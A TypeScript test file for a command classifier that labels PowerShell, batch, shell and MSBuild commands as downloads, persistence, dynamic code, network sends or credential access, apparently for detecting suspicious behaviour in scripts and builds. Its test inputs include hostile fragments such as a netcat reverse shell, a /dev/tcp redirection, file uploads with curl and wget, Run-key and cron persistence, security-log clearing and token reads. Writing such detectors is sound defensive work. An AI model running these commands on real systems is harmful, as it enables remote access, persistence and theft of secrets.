import { describe, expect, it } from 'vitest';
import { actOfMember } from '../../../src/behaviour/commands/act.js';
import { classifyCommand } from '../../../src/behaviour/commands/classify-command.js';
import { powershellCommands } from '../../../src/behaviour/commands/powershell.js';
import { shellPrograms } from '../../../src/behaviour/commands/shell-programs.js';
import { windowsPrograms } from '../../../src/behaviour/commands/windows-programs.js';
import { classifyRedirection } from '../../../src/behaviour/commands/redirection.js';
import {
  classifyPropertyFunction,
  classifyTask,
  intrinsicFunctions,
  taskGroups,
} from '../../../src/behaviour/commands/msbuild-tasks.js';

const split = (args: string): string[] => args.split(' ').filter((word) => word !== '');

describe('classifyCommand', () => {
  it.each([
    [
      'powershell',
      'Invoke-WebRequest',
      '-Uri http://a.test/x -OutFile x.exe',
      'download',
      'network',
    ],
    [
      'powershell',
      'Invoke-RestMethod',
      '-Method Post -Body $x -Uri http://a.test',
      'network',
      'network',
    ],
    ['powershell', 'Start-Process', 'x.exe', 'start-process', 'process'],
    ['powershell', 'Invoke-Expression', '$x', 'evaluate', 'dynamic-code'],
    ['powershell', 'Add-Type', '-TypeDefinition $x', 'load-code', 'assembly-load'],
    [
      'powershell',
      'Set-ItemProperty',
      'HKLM:\\SOFTWARE\\X\\ExecutionPolicy',
      'persist',
      'registry',
    ],
    ['powershell', 'Set-ItemProperty', 'HKCU:\\Software\\Contoso -Name A', 'call', 'registry'],
    ['powershell', 'Register-ScheduledTask', '', 'persist', 'scheduled-task'],
    ['powershell', 'Get-ChildItem', 'Env:', 'environment', 'environment-all'],
    ['powershell', 'certutil.exe', '-urlcache -f http://a.test/x x', 'download', 'network'],
    ['batch', 'C:\\Windows\\System32\\CertUtil.exe', '-decode a b', 'decode', 'encoding'],
    ['batch', 'curl', '-o x http://a.test', 'download', 'network'],
    ['batch', 'bitsadmin', '/transfer j http://a.test/x x', 'download', 'network'],
    ['batch', '@powershell', '-NoP -enc AAAA', 'evaluate', 'dynamic-code'],
    ['batch', 'mshta', 'http://a.test/x', 'download', 'network'],
    ['batch', 'regsvr32', '/s x.dll', 'load-code', 'assembly-load'],
    ['batch', 'schtasks', '/create /tn x', 'persist', 'scheduled-task'],
    [
      'batch',
      'reg',
      'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x',
      'persist',
      'registry',
    ],
    ['batch', 'reg', 'query HKLM\\Software', 'call', 'registry'],
    ['shell', '/usr/bin/curl', '-fsSL https://a.test/x', 'download', 'network'],
    ['shell', 'curl', '-d @file https://a.test', 'network', 'network'],
    ['shell', 'chmod', '+x ./x', 'write-file', 'file-write'],
    ['shell', 'chmod', '755 x', 'write-file', 'file-write'],
    ['shell', 'nohup', './x &', 'start-process', 'process'],
    ['shell', 'crontab', '-', 'persist', 'scheduled-task'],
    ['shell', 'systemctl', '--user enable x', 'persist', 'service'],
    ['shell', 'base64', '-d', 'decode', 'encoding'],
    ['shell', 'python3', '-c import', 'evaluate', 'dynamic-code'],
    ['powershell', 'powershell', '-en AAAA', 'evaluate', 'dynamic-code'],
    ['powershell', 'pwsh', '-EncodedCommand AAAA', 'evaluate', 'dynamic-code'],
    ['powershell', 'Install-Module', 'X -Force', 'download', 'network'],
    ['powershell', 'Send-MailMessage', '-To a@example.com', 'network', 'mail'],
    ['powershell', 'ConvertFrom-SecureString', '$x', 'decode', 'data-protection'],
    ['powershell', 'Get-Secret', 'X', 'call', 'credential-store'],
    ['powershell', 'Get-ChildItem', 'Cert:\\CurrentUser\\My', 'call', 'certificate'],
    ['powershell', 'Add-Content', '$PROFILE x', 'persist', 'file-write'],
    ['powershell', 'Copy-Item', 'Startup.cs b', 'write-file', 'file-write'],
    ['powershell', 'New-CimInstance', '', 'persist', 'wmi'],
    ['batch', 'powershell', '–enc AAAA', 'evaluate', 'dynamic-code'],
    ['batch', 'curl', '-f -o x http://a.test', 'download', 'network'],
    ['batch', 'curl', '-F file=@x http://a.test', 'network', 'network'],
    ['batch', 'mpcmdrun', '-DownloadFile -url http://a.test/x', 'download', 'network'],
    ['batch', 'wmic', 'process call create x.exe', 'start-process', 'process'],
    ['batch', 'rundll32', 'x.dll,Run', 'load-code', 'assembly-load'],
    ['batch', 'msiexec', '/i http://a.test/x.msi', 'download', 'network'],
    ['batch', 'sc', 'create x', 'persist', 'service'],
    ['batch', 'cmstp', '/s x.inf', 'load-code', 'assembly-load'],
    ['batch', 'wevtutil', 'cl Security', 'call', 'file-delete'],
    ['batch', 'nslookup', '-q=txt a.test', 'network', 'dns'],
    ['batch', 'dotnet', 'tool install x', 'download', 'network'],
    ['shell', 'wget', '--post-file=x http://a.test', 'network', 'network'],
    ['shell', 'nc', '-e /bin/sh a.test 1', 'network', 'network'],
    ['shell', 'dig', 'txt a.test', 'network', 'dns'],
    ['shell', 'openssl', 'enc -d -aes-256-cbc', 'call', 'crypto'],
    ['shell', 'openssl', 'base64 -d', 'decode', 'encoding'],
    ['shell', 'openssl', 's_client -connect a.test:443', 'network', 'network'],
    ['shell', 'git', 'credential fill', 'call', 'credential-store'],
    ['shell', 'gh', 'auth token', 'call', 'credential-store'],
    ['shell', 'aws', 'sts get-session-token', 'call', 'credential-store'],
    ['shell', 'npm', 'publish', 'network', 'network'],
    ['shell', 'tee', '-a /etc/cron.d/x', 'persist', 'file-write'],
    ['shell', 'export', '-p', 'environment', 'environment-all'],
    ['shell', 'systemd-detect-virt', '', 'call', 'analysis-check'],
    ['shell', 'env', '', 'environment', 'environment-all'],
    ['shell', 'env', 'A=1 ./x', 'start-process', 'process'],
  ] as const)('%s: %s %s is %s', (language, name, args, act, capability) => {
    expect(classifyCommand(language, name, split(args))).toEqual({ act, capability });
  });

  it('sees an interpreter that is written into as evaluation', () => {
    expect(classifyCommand('shell', 'sh', [], true)).toMatchObject({ act: 'evaluate' });
    expect(classifyCommand('shell', 'sh', ['install.sh'])).toMatchObject({ act: 'start-process' });
  });

  it.each([
    ['powershell', 'Write-Host', 'hello'],
    ['powershell', 'Join-Path', 'a b'],
    ['powershell', 'Test-Path', 'x'],
    ['batch', 'echo', 'curl http://a.test'],
    ['batch', 'if', 'exist x'],
    ['shell', 'echo', 'crontab'],
    ['shell', 'cd', '/tmp'],
    ['shell', 'npm', 'test'],
    ['shell', 'chmod', '644 x'],
    ['shell', 'export', 'A=1'],
    ['shell', 'toString', ''],
    ['shell', '', ''],
  ] as const)('%s: %s %s is nothing', (language, name, args) => {
    expect(classifyCommand(language, name, split(args))).toBeUndefined();
  });

  it('is quick about hostile arguments', () => {
    const start = performance.now();
    for (const unit of ['add', 'save', 'call', ' -', 'process call ', 'config ']) {
      for (const name of ['reg', 'wmic', 'git', 'sh', 'powershell']) {
        classifyCommand('batch', name, [unit.repeat(500_000)]);
        classifyCommand('shell', name, [unit.repeat(500_000)]);
      }
    }
    expect(performance.now() - start).toBeLessThan(20_000);
  });
});

describe('the command tables', () => {
  const tables = [powershellCommands, windowsPrograms, shellPrograms];

  it.each(tables)('name each command once, in lower case', (...groups) => {
    const names = groups.flatMap(({ commands }) =>
      Object.keys(commands).flatMap((key) => key.split(' ')),
    );
    expect(names.filter((name, i) => names.indexOf(name) !== i)).toEqual([]);
    expect(names.filter((name) => name !== name.toLowerCase() || name === '')).toEqual([]);
  });

  it('say for every group where it is documented', () => {
    const groups = [...tables.flat(), ...taskGroups, intrinsicFunctions];
    for (const { documentation } of groups) {
      expect(documentation.length).toBeGreaterThan(0);
      for (const { title, url } of documentation) {
        expect(title).toMatch(/docs/);
        expect(new URL(url).protocol).toMatch(/^https?:$/);
      }
    }
  });
});

describe('classifyRedirection', () => {
  it.each([
    ['/dev/tcp/192.0.2.1/4444', 'network'],
    ['~/.bashrc', 'persist'],
    ['~/.config/systemd/user/x.service', 'persist'],
    ['/etc/cron.d/x', 'persist'],
    ['$PROFILE', 'persist'],
    ['%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat', 'persist'],
    ['.git/hooks/pre-commit', 'persist'],
    ['.vscode/tasks.json', 'persist'],
  ])('%s is %s', (target, act) => {
    expect(classifyRedirection('>>', target)?.act).toBe(act);
  });

  it('tells reading from writing, and a text from a name', () => {
    expect(classifyRedirection('<', '~/.bashrc')).toBeUndefined();
    expect(classifyRedirection('<<', 'see ~/.bashrc\n')).toBeUndefined();
    expect(classifyRedirection('<', '/dev/tcp/192.0.2.1/1')?.act).toBe('network');
  });

  it.each(['/dev/null', 'out.log', 'NUL', '&1', 'Startup.cs', 'src/macron.txt', '/tmp/profile'])(
    '%s is nothing',
    (target) => {
      expect(classifyRedirection('>', target)).toBeUndefined();
    },
  );
});

describe('MSBuild', () => {
  it.each([
    ['Exec', 'exec', 'process'],
    ['DownloadFile', 'download', 'network'],
    ['Microsoft.Build.Tasks.WriteLinesToFile', 'write-file', 'file-write'],
    ['copy', 'copy', 'file-write'],
    ['Unzip', 'write-file', 'compression'],
    ['ReadLinesFromFile', 'read-file', 'file-read'],
    ['XslTransformation', 'write-file', 'file-write'],
    ['SignFile', 'read-file', 'certificate'],
    ['WebDownload', 'download', 'network'],
  ])('task %s', (name, construct, capability) => {
    expect(classifyTask(name)).toEqual({ construct, capability });
  });

  it.each([
    'Message',
    'Warning',
    'Error',
    'CreateItem',
    'CallTarget',
    'MSBuild',
    'ContosoTask',
    '',
  ])('task %j is nothing', (name) => {
    expect(classifyTask(name)).toBeUndefined();
  });

  it.each([
    ['System.IO.File', 'ReadAllText', 'file-read'],
    ['system.environment', 'GetEnvironmentVariable', 'environment'],
    ['MSBuild', 'GetRegistryValue', 'registry'],
    ['System.DateTime', 'UtcNow', 'time'],
    ['MSBuild', 'RegisterBuildCheck', 'assembly-load'],
    ['MSBuild', 'CalculateSha256', 'hash'],
    ['System.IO.Directory', 'GetFiles', 'file-read'],
    ['System.Environment', 'GetEnvironmentVariables', 'environment-all'],
    ['System.Environment', 'UserName', 'identity'],
    ['System.IO.Path', 'Combine', undefined],
    ['MSBuild', 'Add', undefined],
    ['System.String', 'Join', undefined],
  ])('property function [%s]::%s', (type, member, capability) => {
    expect(classifyPropertyFunction(type, member)).toBe(capability);
  });

  it('says what a member is to a script', () => {
    expect(actOfMember('network', 'DownloadString')).toBe('download');
    expect(actOfMember('network', 'UploadString')).toBe('network');
    expect(actOfMember('hash', 'ComputeHash')).toBe('call');
  });
});
